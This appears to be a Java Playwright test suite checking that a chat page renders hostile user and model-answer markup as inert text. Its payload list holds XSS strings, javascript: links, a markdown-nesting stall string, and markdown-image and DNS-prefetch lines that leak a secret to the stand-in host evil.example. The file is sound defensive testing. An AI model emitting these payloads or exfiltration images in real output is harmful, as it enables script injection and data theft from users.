package dev.holdfast.tests.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;

import dev.holdfast.tests.harness.Answer;
import dev.holdfast.tests.harness.ModelScript;
import java.io.IOException;
import java.util.List;
import java.util.stream.Stream;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Rows S27 and S28: whatever a message or an answer says, the page shows it as text and fetches
 * nothing for it.
 */
@InBrowser
class HostileAnswerTest {
  private static final String EVIL = "evil.example";
  private static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "<img src=https://evil.example/a.png onerror=alert(1)>",
          "<svg onload=alert(1)><use href=https://evil.example/b.svg></svg>",
          "<iframe src=https://evil.example/c></iframe>",
          "<style>@import 'https://evil.example/d.css'; * { display: none }</style>",
          "<form action=https://evil.example/e><input name=token></form>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "[click](javascript:alert(1))",
          "[click](JaVaScRiPt:alert(1))",
          "[click](data:text/html,alert)",
          "[click](/logout)",
          "![secret](https://evil.example/f.png?q=secret)",
          "![secret][g]\n\n[g]: https://evil.example/g.png?q=secret",
          "<link rel=dns-prefetch href=https://secret.evil.example>");

  @RegisterExtension static final BrowserPages PAGES = BrowserPages.MODEL;

  @Test
  void anAnswerRunsNothingAndFetchesNothing() {
    PAGES.model().always(ModelScript.answer(_ -> String.join("\n\n", PAYLOADS)));
    try (ChatPage chat = PAGES.open()) {
      chat.converse("be evil");
      assertThat(chat.answers()).containsText(new String[] {"<script>alert(1)</script>"});
      assertThat(chat.answers()).containsText("[click](javascript:alert(1))");
      assertThat(chat.answers())
          .containsText("<img src=https://evil.example/a.png onerror=alert(1)>");
      assertThat(chat.answers().locator("img, svg, script, style, iframe, form, input, link"))
          .hasCount(0);
      assertThat(chat.answers().locator("a:not([href^='https://'])")).hasCount(0);
      assertThat(chat.answers().locator("a:not([rel~='noopener']), a:not([target='_blank'])"))
          .hasCount(0);
      assertNothingHappened(chat);
    }
  }

  /** An image is a link that says where it leads; opening it is the person's choice. */
  @Test
  void anImageIsALinkThatNamesItsHost() {
    PAGES.model().always(ModelScript.answer(_ -> "![a cat](https://evil.example/cat.png)"));
    try (ChatPage chat = PAGES.open()) {
      chat.converse("show me a cat");
      assertThat(chat.answers().locator("a")).hasText("image: a cat");
      assertThat(chat.answers().locator(".host")).containsText(EVIL);
      assertNothingHappened(chat);
    }
  }

  @Test
  void aPersonsWordsAreTextTooAlsoInTheListAndTheStory() {
    try (ChatPage chat = PAGES.open()) {
      String words = String.join(" ", PAYLOADS.stream().flatMap(String::lines).toList());
      chat.converse(words);
      assertThat(chat.messages().locator(".text")).hasText(words);
      chat.page().locator("#threads .name").first().waitFor();
      chat.messages().locator(".state").click();
      chat.awaitText(chat.page().locator("#story-body"), "answered");
      assertThat(chat.page().locator("img, script:not([src]), style, iframe")).hasCount(0);
      assertNothingHappened(chat);
    }
  }

  /**
   * Markup that is opened ten thousand times costs a Markdown parser minutes; here it costs the
   * markup.
   */
  @Test
  void endlessMarkupDoesNotStallThePage() {
    String endless = Stream.generate(() -> "![a](").limit(9000).reduce("", String::concat);
    PAGES.model().always(ModelScript.answer(_ -> endless));
    try (ChatPage chat = PAGES.open()) {
      chat.converse("stall");
      assertThat(chat.answers()).containsText("![a](![a](");
      PAGES.model().always(ModelScript.echo());
      chat.converse("still there?");
    }
  }

  @Test
  void thePageMayNotBeFramedAndRunsOnlyItsOwnScripts() throws IOException {
    Answer page = PAGES.api().get("/chat");
    Assertions.assertThat(page.header("content-security-policy"))
        .contains("default-src 'self'", "frame-ancestors 'none'")
        .doesNotContain("unsafe");
    Assertions.assertThat(page.body())
        .doesNotContain("<script>", " style=", " onclick=", "https://");
  }

  private static void assertNothingHappened(ChatPage chat) {
    chat.awaitWhatItStarted();
    Assertions.assertThat(chat.foreignRequests()).isEmpty();
    Assertions.assertThat(chat.complaints()).isEmpty();
  }
}
